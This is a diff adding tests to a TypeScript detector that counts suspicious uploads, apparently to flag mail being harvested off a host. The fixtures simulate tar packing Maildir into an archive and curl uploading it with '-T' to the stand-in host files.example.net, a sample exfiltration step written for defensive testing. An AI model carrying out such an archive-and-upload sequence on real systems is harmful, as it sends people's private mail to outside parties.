@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { HostState } from '../../state/host.ts';
 import type { Notice } from '../../state/notices.ts';
+import { MARK } from '../../state/path-marks.ts';
 import { splitHome } from '../../state/places.ts';
 import type { ProcessState } from '../../state/processes.ts';
 import { classOfPath } from '../../state/programs.ts';
@@ -47,8 +48,11 @@ function ran(exe: string, argv: readonly string[] = [exe]): ProcessState {
 interface Around {
   /** Kinds of events that the host is seen to record. */
   readonly seen?: readonly string[];
+  readonly processes?: readonly ProcessState[];
+  /** Path -> of what kind the content is that it may hold. */
+  readonly holds?: Readonly<Record<string, Taint['origin']['kind']>>;
 }
-function cases({ seen = ['network.connected'] }: Around = {}) {
+function cases({ seen = ['network.connected'], processes = [], holds = {} }: Around = {}) {
   const host = {
     host: 'ws1',
     has: (kind: string) => seen.includes(kind),
@@ -57,6 +61,12 @@ function cases({ seen = ['network.connected'] }: Around = {}) {
     homes: { split: splitHome },
     sessions: { peek: () => undefined },
     terminals: { peek: () => undefined },
+    processes: { get: (pid: number) => processes.find(each => each.pid === pid) },
+    files: {
+      byName: (path: string) =>
+        holds[path] === undefined ? undefined : { taints: [{ origin: { kind: holds[path] } }] },
+    },
+    place: (path: string) => ({ marks: path.startsWith('/home/') ? MARK.user : 0 }),
     setting: { identity: { homeOwner: () => 'clerk', homeOf: () => '/home/clerk', accountOf: () => 'clerk' } },
   } as unknown as HostState;
   const world = {
@@ -171,4 +181,43 @@ test('what leaves the host is watched only where it does not record connections 
   };
   assert.equal(watched(['network.connected']), false);
   assert.equal(watched([]), true);
+});
+
+const ARCHIVE = '/home/clerk/old.tgz';
+const TAR: readonly string[] = ['tar', 'czf', ARCHIVE, 'Maildir'];
+const TALK = '/home/clerk/talk.odp';
+
+/** How many uploads count where no writes are recorded: `reader` read the mail of `owner`, and `files` are sent a little later. */
+function counted(
+  reader: ProcessState,
+  files: readonly string[],
+  { holds = { [ARCHIVE]: 'mailstore' }, processes = [reader], owner = 'clerk' }: Around & { owner?: string } = {},
+): number {
+  const kept = cases({ seen: [], holds, processes });
+  kept.tell({ ...read(reader, '/var/mail/clerk'), owner });
+  const process = ran('/usr/bin/curl', ['curl', ...files.flatMap(file => ['-T', file]), 'http://files.example.net/']);
+  kept.tell({ kind: 'transfer.started', process, time: 5 });
+  return kept.only.transfers.length;
+}
+
+test('own mail packed into a file that a word names, and another file sent: other work', () => {
+  assert.equal(counted(ran('/bin/tar', TAR), [TALK]), 0);
+  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { holds: { [ARCHIVE]: 'mailstore', [TALK]: 'download' } }), 0);
+});
+
+test('what may hold the mail is sent, alone or among others: a harvest', () => {
+  assert.equal(counted(ran('/bin/tar', TAR), [ARCHIVE]), 1);
+  assert.equal(counted(ran('/bin/tar', TAR), [TALK, ARCHIVE]), 1);
+});
+
+test('mail of which no word says where it went: what is sent counts', () => {
+  for (const [says, reader] of [
+    ['an archiver that packs to its output', ran('/bin/tar', ['tar', 'cz', 'Maildir'])],
+    ['an archiver that unpacks', ran('/bin/tar', ['tar', 'xzf', ARCHIVE])],
+    ['no archiver, whatever it is told', ran('/usr/bin/mbtool', ['mbtool', '--create', '--file', ARCHIVE])],
+    ['an archiver of the person', { ...ran('/home/clerk/tar', TAR), trusted: false }],
+  ] as const)
+    assert.equal(counted(reader, [TALK]), 1, says);
+  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { processes: [] }), 1, 'its words are forgotten');
+  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { owner: 'buyer' }), 1, 'mail of somebody else');
 });
